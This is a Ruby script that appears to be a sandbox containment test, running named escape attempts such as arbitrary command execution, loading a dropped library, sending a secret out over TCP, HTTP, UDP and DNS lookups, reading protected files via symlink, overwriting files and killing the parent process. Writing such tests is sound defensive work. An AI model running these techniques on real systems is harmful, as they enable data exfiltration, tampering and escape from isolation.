# Attempts in Ruby: `attack.rb NAME`. What each tries to reach comes in variables; whoever runs it looks whether it was reached.
require 'fiddle'
require 'fileutils'
require 'io/console'
require 'net/http'
require 'resolv'
require 'socket'

EVIL, STRANGER, SECRET, PROTECTED, SCRATCH, LIBRARY, LOOT =
  %w[EVIL STRANGER SECRET PROTECTED SCRATCH LIBRARY LOOT].map { |name| ENV.fetch(name, '') }
$stdout.sync = true

ATTEMPTS = {
  system: -> { system(EVIL) },
  backticks: -> { puts `#{EVIL}` },
  popen: -> { puts IO.popen([EVIL], &:read) },
  spawn: -> { Process.wait(spawn(EVIL)) },
  exec: -> { exec(EVIL) },
  open_pipe: -> { puts open("|#{EVIL}", &:read) }, # rubocop:disable Security/Open
  fork_exec: -> { Process.wait(fork { exec(EVIL) }) },
  fiddle: lambda {
    execve = Fiddle::Function.new(Fiddle.dlopen(nil)['execve'], [Fiddle::TYPE_VOIDP] * 3, Fiddle::TYPE_INT)
    arguments = [EVIL, nil].map { |word| word ? Fiddle::Pointer[word].to_i : 0 }.pack('Q*')
    execve.call(EVIL, arguments, nil)
  },
  load_library: lambda {
    FileUtils.cp(LIBRARY, "#{SCRATCH}/dropped.so")
    Fiddle.dlopen("#{SCRATCH}/dropped.so")
  },
  connect: -> { TCPSocket.open(STRANGER, 443) { |socket| socket.write(LOOT) } },
  http: -> { Net::HTTP.get(URI("http://#{STRANGER}/#{LOOT}")) },
  datagram: -> { UDPSocket.new.send(LOOT, 0, STRANGER, 443) },
  thread: -> { Thread.new { TCPSocket.open(STRANGER, 443) { |socket| socket.write(LOOT) } }.join },
  resolv: -> { Resolv::DNS.new.getaddress("#{LOOT}.stranger.test") },
  resolv_elsewhere: -> { Resolv::DNS.new(nameserver: [STRANGER]).getaddress("#{LOOT}.lab.test") },
  getaddrinfo: -> { Addrinfo.getaddrinfo("#{LOOT}.stranger.test", 80) },
  listen: lambda {
    TCPServer.new(4447)
    puts 'REACHED'
  },
  read: -> { puts File.read(SECRET) },
  read_link: lambda {
    File.symlink(SECRET, "#{SCRATCH}/link")
    puts File.read("#{SCRATCH}/link")
  },
  write: -> { File.write("#{PROTECTED}/file", 'OVERWRITTEN') },
  write_rename: lambda {
    File.write("#{SCRATCH}/new", 'OVERWRITTEN')
    File.rename("#{SCRATCH}/new", "#{PROTECTED}/file")
  },
  kill_init: lambda {
    begin
      Process.kill('KILL', Process.ppid)
    rescue SystemCallError
      nil
    end
    system(EVIL)
  },
  trap_and_loop: lambda {
    %w[TERM INT HUP].each { |name| trap(name, 'IGNORE') }
    50.times { Thread.new { system(EVIL) } }
    Thread.list.each { |thread| thread.join(2) unless thread == Thread.current }
  }
}.freeze

begin
  Timeout.timeout(1.5) { ATTEMPTS.fetch(ARGV.fetch(0).to_sym).call }
rescue SystemCallError, IOError, SocketError, Resolv::ResolvError, Timeout::Error, Fiddle::DLError => e
  puts "REFUSED #{e.class}"
end
